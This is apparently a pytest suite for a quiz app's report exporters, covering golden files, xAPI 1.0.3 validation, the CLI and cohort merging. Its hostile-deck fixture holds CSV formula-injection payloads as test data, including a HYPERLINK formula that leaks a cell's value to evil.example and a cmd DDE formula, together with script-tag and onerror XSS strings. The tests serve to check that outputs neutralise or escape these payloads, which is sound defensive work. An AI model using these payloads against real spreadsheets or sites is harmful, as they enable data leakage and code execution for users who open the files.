"""Report writers: golden files, xAPI structure, CSV/HTML injection, the CLI, cohorts.

Regenerate the golden files with `UPDATE_GOLDEN=1 pytest tests/test_reports_exports.py`
and review the diff.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from quizapp.cli.main import cli
from quizapp.reports import cohort, csv_out, html_out, json_out, md_out, xapi_out
from quizapp.reports import metrics as M
from quizapp.reports.figures import LearnerMetrics
from quizapp.reports.reviewlog import iter_reviews
from quizapp.store import open_database
from tests.test_reports_data import NOW, add_card, add_deck, add_review, build_history

GOLDEN = Path(__file__).parent / "fixtures" / "reports"
NOW_ISO = "2026-03-02T09:00:00.000Z"


@pytest.fixture
def hist(tmp_path: Path):
    db, learner = build_history(tmp_path / "hist.db")
    yield db, learner
    db.conn.close()


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
    expected = path.read_bytes().decode("utf-8") if path.exists() else None
    assert expected is not None, f"{path} missing: run with UPDATE_GOLDEN=1"
    assert text == expected, f"{name} differs from its golden file (UPDATE_GOLDEN=1 to accept)"


def metrics_of(db, who) -> LearnerMetrics:  # type: ignore[no-untyped-def]
    return M.compute(db, who, now=NOW, source="hist.db")


# --- golden files -----------------------------------------------------------------


def test_golden_csv(hist) -> None:
    m = metrics_of(*hist)
    check_golden("learner.csv", csv_out.render([m]))
    check_golden("by_deck.csv", csv_out.render([m], by="deck"))
    check_golden("by_tag.csv", csv_out.render([m], by="tag"))
    db, who = hist
    check_golden("reviews.csv", "".join(csv_out.render_reviews(iter_reviews(db, who, now=NOW))))


def test_golden_json(hist) -> None:
    text = json_out.render([metrics_of(*hist)], generated_at=NOW_ISO)
    check_golden("report.json", text)
    doc = json.loads(text)
    assert doc["schema_version"] == json_out.SCHEMA_VERSION
    ada = doc["learners"][0]
    assert ada["counts"]["mature"] == 1 and ada["retention"][0]["all"]["rate"] == 0.666667


def test_golden_md(hist) -> None:
    check_golden("report.md", md_out.render([metrics_of(*hist)]))


def test_golden_html(hist) -> None:
    check_golden("report.html", html_out.render([metrics_of(*hist)], generated_at=NOW_ISO))


def test_golden_xapi(hist) -> None:
    db, who = hist
    lines = "".join(xapi_out.render(("hist.db", r) for r in iter_reviews(db, who, now=NOW)))
    check_golden("statements.jsonl", lines)


def test_outputs_are_deterministic(hist) -> None:
    a = html_out.render([metrics_of(*hist)], generated_at=NOW_ISO)
    b = html_out.render([metrics_of(*hist)], generated_at=NOW_ISO)
    assert a == b


# --- xAPI 1.0.3 structure -----------------------------------------------------------

UUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$")
ISO_DURATION = re.compile(
    r"^P(?!$)(\d+Y)?(\d+M)?(\d+W)?(\d+D)?(T(?=\d)(\d+H)?(\d+M)?(\d+(\.\d+)?S)?)?$"
)
IRI = re.compile(r"^[a-zA-Z][a-zA-Z0-9+.-]*:[^\s<>\"{}|\\^`]+$")
INTERACTION_TYPES = {
    "true-false",
    "choice",
    "fill-in",
    "long-fill-in",
    "matching",
    "performance",
    "sequencing",
    "likert",
    "numeric",
    "other",
}


def check_statement(s: dict) -> None:  # type: ignore[type-arg]
    """The required fields and formats of an xAPI 1.0.3 statement, as we emit it."""
    assert UUID.match(s["id"])
    actor = s["actor"]
    assert actor["objectType"] == "Agent" and isinstance(actor["name"], str)
    assert set(actor["account"]) == {"homePage", "name"}
    assert IRI.match(actor["account"]["homePage"]) and actor["account"]["name"]
    assert s["verb"]["id"] == "http://adlnet.gov/expapi/verbs/answered"
    assert s["verb"]["display"] == {"en-US": "answered"}
    obj = s["object"]
    assert obj["objectType"] == "Activity" and IRI.match(obj["id"])
    d = obj["definition"]
    assert d["type"] == "http://adlnet.gov/expapi/activities/cmi.interaction"
    assert isinstance(d["name"]["en-US"], str)
    assert d["interactionType"] in INTERACTION_TYPES
    if d["interactionType"] == "choice":
        ids = [c["id"] for c in d["choices"]]
        assert len(ids) == len(set(ids)) and all(
            isinstance(c["description"]["en-US"], str) for c in d["choices"]
        )
        for pattern in d["correctResponsesPattern"]:
            assert set(pattern.split("[,]")) <= set(ids)
    res = s["result"]
    assert isinstance(res["success"], bool)
    assert ISO_DURATION.match(res["duration"])
    assert "response" not in res or isinstance(res["response"], str)
    assert ISO_UTC.match(s["timestamp"])
    ctx = s["context"]
    assert ctx["platform"] == "quizapp"
    assert all(IRI.match(k) for k in ctx["extensions"])
    assert s.get("version", "1.0.3") == "1.0.3"


def test_xapi_statements_are_valid(hist) -> None:
    db, who = hist
    lines = list(xapi_out.render(("hist.db", r) for r in iter_reviews(db, who, now=NOW)))
    assert len(lines) == 10
    stmts = [json.loads(line) for line in lines]
    for s in stmts:
        check_statement(s)
    by_type = {s["object"]["definition"]["interactionType"] for s in stmts}
    assert by_type == {"other", "fill-in", "choice", "numeric"}
    mcq = next(s for s in stmts if s["object"]["definition"]["interactionType"] == "choice")
    assert mcq["object"]["definition"]["correctResponsesPattern"] == ["c0"]
    assert mcq["result"] == {"success": False, "response": "80%", "duration": "PT12S"}
    cloze = next(s for s in stmts if s["object"]["id"].endswith(":c1"))
    assert cloze["object"]["id"] == "urn:quizapp:card:d1:e:c1"
    assert cloze["object"]["definition"]["correctResponsesPattern"] == ["positive"]
    # ids are stable and distinct
    again = [
        json.loads(x)["id"]
        for x in xapi_out.render(("hist.db", r) for r in iter_reviews(db, who, now=NOW))
    ]
    assert again == [s["id"] for s in stmts] and len(set(again)) == 10


def test_xapi_formats() -> None:
    assert xapi_out.iso_duration(12_500) == "PT12.5S"
    assert xapi_out.iso_duration(0) == "PT0S"
    assert xapi_out.iso_duration(61_234) == "PT61.23S"
    assert (
        xapi_out.activity_id("deck one", "a:b/c", 2) == "urn:quizapp:card:deck%20one:a%3Ab%2Fc:c2"
    )


# --- hostile deck ---------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


@pytest.fixture
def hostile(tmp_path: Path):
    db = open_database(tmp_path / "hostile.db")
    from quizapp.store.learners import add_learner

    who = add_learner(db, "=cmd|' /C calc'!A0 <script>alert(2)</script>")
    db.conn.execute("BEGIN")
    add_deck(db, "<b>x</b>", '=HYPERLINK("http://evil") <script>alert(3)</script>')
    for i, text in enumerate(HOSTILE, start=1):
        tag = f"<script>t{i}</script>" if i % 2 else f"=t{i}"
        add_card(
            db,
            i,
            "<b>x</b>",
            f'"><img src=x onerror=alert({i})>',
            {"type": "basic", "prompt": text, "answer": text},
            (tag,),
        )
        add_review(db, who.id, i, NOW.replace(hour=8), 1, 1000, before=(2, 30), retr=0.8)
        db.conn.execute(
            "INSERT INTO card_state (learner_id, card_pk, state, stability, due, last_review,"
            " lapses) VALUES (?, ?, 2, 1.0, ?, ?, 3)",
            [who.id, i, 0, 0],
        )
    db.conn.execute("COMMIT")
    yield db, who
    db.conn.close()


def test_csv_neutralises_formulas(hostile) -> None:
    db, who = hostile
    m = M.compute(db, who, now=NOW)
    texts = [
        csv_out.render([m]),
        csv_out.render([m], by="deck"),
        csv_out.render([m], by="tag"),
        "".join(csv_out.render_reviews(iter_reviews(db, who, now=NOW))),
    ]
    for text in texts:
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len({len(r) for r in rows}) == 1  # well-formed: same width everywhere
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(csv_out.FORMULA_START), cell
    assert "'=cmd" in texts[0]
    assert csv_out.neutralise("-3") == "'-3" and csv_out.neutralise(-3) == -3
    assert csv_out.neutralise("\rx") == "'\rx" and csv_out.neutralise("a=b") == "a=b"


def test_html_escapes_everything(hostile) -> None:
    db, who = hostile
    page = html_out.render([M.compute(db, who, now=NOW)], generated_at=NOW_ISO)
    low = page.lower()
    assert "<script" not in low
    assert "<img" not in low
    assert not re.search(r"<[^>]*\sonerror\s*=", low)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "http://" not in low.replace("http://www.w3.org/2000/svg", "").replace(
        "http://evil", ""
    )  # nothing fetched: the only URLs are the SVG namespace and data
    assert "src=" not in low.replace("src=x", "")


def test_markdown_escapes_html(hostile) -> None:
    db, who = hostile
    text = md_out.render([M.compute(db, who, now=NOW)])
    assert "<script" not in text and "<img" not in text


# --- CLI and cohorts --------------------------------------------------------------------


def run(*args: str) -> tuple[int, str, str]:
    res = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return res.exit_code, res.stdout, res.stderr


def test_cli_formats_and_confirmation(tmp_path: Path, hist) -> None:
    dbp = str(tmp_path / "hist.db")
    for fmt in ("csv", "json", "md", "html", "xapi"):
        out = tmp_path / f"r.{fmt}"
        code, _, err = run("--db", dbp, "report", "--now", NOW_ISO, "--format", fmt, "-o", str(out))
        assert code == 0, err
        assert out.stat().st_size > 0
        assert err.startswith(f"Wrote {fmt} ") and "Ada" in err
    assert not list(tmp_path.glob(".r.*.tmp"))  # atomic write left nothing behind
    code, out, _ = run("--db", dbp, "report", "--now", NOW_ISO, "--format", "json", "-o", "-")
    assert json.loads(out)["learners"][0]["learner"] == "Ada"
    code, out, _ = run("--db", dbp, "report", "--now", NOW_ISO, "-o", str(tmp_path / "x.md"))
    assert code == 0 and (tmp_path / "x.md").read_text().startswith("# Progress report: Ada")


def test_cli_errors(tmp_path: Path, hist) -> None:
    dbp = str(tmp_path / "hist.db")
    res = CliRunner().invoke(cli, ["--db", dbp, "report", "--learner", "Bob", "--format", "csv"])
    assert res.exit_code == 1 and "no learner named 'Bob'" in res.stderr and "Ada" in res.stderr
    res = CliRunner().invoke(
        cli, ["--db", dbp, "report", "--since", "2026-02-30", "--format", "csv"]
    )
    assert res.exit_code == 2 and "not a date" in res.stderr
    res = CliRunner().invoke(cli, ["--db", dbp, "report", "-o", "-"])
    assert res.exit_code == 2 and "--format" in res.stderr
    res = CliRunner().invoke(cli, ["--db", str(tmp_path / "none.db"), "report", "--format", "csv"])
    assert res.exit_code == 1 and "no database" in res.stderr
    assert not (tmp_path / "none.db").exists()


def test_cli_since_and_filters(tmp_path: Path, hist) -> None:
    dbp = str(tmp_path / "hist.db")
    _code, out, _ = run(
        "--db",
        dbp,
        "report",
        "--now",
        NOW_ISO,
        "--since",
        "2026-02-23",
        "--deck",
        "d1",
        "--format",
        "json",
    )
    ada = json.loads(out)["learners"][0]
    assert ada["study"]["reviews"] == 5  # every review of the last 7 days is of deck d1
    assert ada["filters"]["deck_ids"] == ["d1"]


def test_cohort_two_databases_merge_by_name(tmp_path: Path) -> None:
    a, _ = build_history(tmp_path / "a.db", "Ada")
    b, _ = build_history(tmp_path / "b.db", "ada")  # same person, other file, other case
    from quizapp.store.learners import add_learner

    add_learner(b, "Ben")
    a.conn.close()
    b.conn.close()
    code, out, err = run(
        "--db",
        str(tmp_path / "a.db"),
        "--db",
        str(tmp_path / "b.db"),
        "report",
        "--all",
        "--now",
        NOW_ISO,
        "--format",
        "csv",
    )
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["learner"] for r in rows] == ["Ada", "Ben"]
    ada = rows[0]
    assert (ada["total"], ada["reviews"], ada["mature"]) == ("16", "20", "2")
    assert ada["retention_30d"] == "0.5"  # (2+2)/(4+4)
    assert ada["study_days"] == "9" and ada["streak_current"] == "3"  # union of days
    assert ada["sources"] == "a.db b.db"  # file names, never their folders
    assert rows[1]["total"] == "8" and rows[1]["reviews"] == "0"  # Ben: b.db only

    sources = cohort.open_sources([tmp_path / "a.db", tmp_path / "b.db"])
    (member,) = cohort.gather(sources, ["ADA"])
    merged = cohort.member_metrics(member, now=NOW)
    single = M.compute(sources[0].db, member.parts[0].learner, now=NOW)
    assert merged.counts == single.counts + single.counts
    assert merged.calibration[9].n == 2 * single.calibration[9].n
    assert [d.day for d in merged.activity] == [d.day for d in single.activity]
    assert merged.activity[0].reviews == 2 * single.activity[0].reviews
    assert merged.recall.value == pytest.approx(single.recall.value)  # type: ignore[arg-type]
    code, out, _ = run(
        "--db",
        str(tmp_path / "a.db"),
        "--db",
        str(tmp_path / "b.db"),
        "report",
        "--all",
        "--now",
        NOW_ISO,
        "--reviews",
        "--format",
        "csv",
    )
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[0] == [
        "card_id",
        "review_time",
        "review_rating",
        "review_duration",
        "learner",
        "deck_id",
        "card_key",
        "source",
    ]
    assert len(rows) == 1 + 20 and {r[4] for r in rows[1:]} == {"Ada"}


def test_default_learner_is_the_os_user_else_all(tmp_path: Path, monkeypatch) -> None:
    db, _ = build_history(tmp_path / "h.db", "Ada")
    from quizapp.store.learners import add_learner

    add_learner(db, "zoe")
    db.conn.close()
    monkeypatch.setattr("quizapp.store.learners.default_learner_name", lambda: "Zoe")
    code, out, _ = run(
        "--db", str(tmp_path / "h.db"), "report", "--now", NOW_ISO, "--format", "csv"
    )
    assert code == 0
    assert [r["learner"] for r in csv.DictReader(io.StringIO(out))] == ["zoe"]
    monkeypatch.setattr("quizapp.store.learners.default_learner_name", lambda: "nobody")
    _code, out, _ = run(
        "--db", str(tmp_path / "h.db"), "report", "--now", NOW_ISO, "--format", "csv"
    )
    assert [r["learner"] for r in csv.DictReader(io.StringIO(out))] == ["Ada", "zoe"]
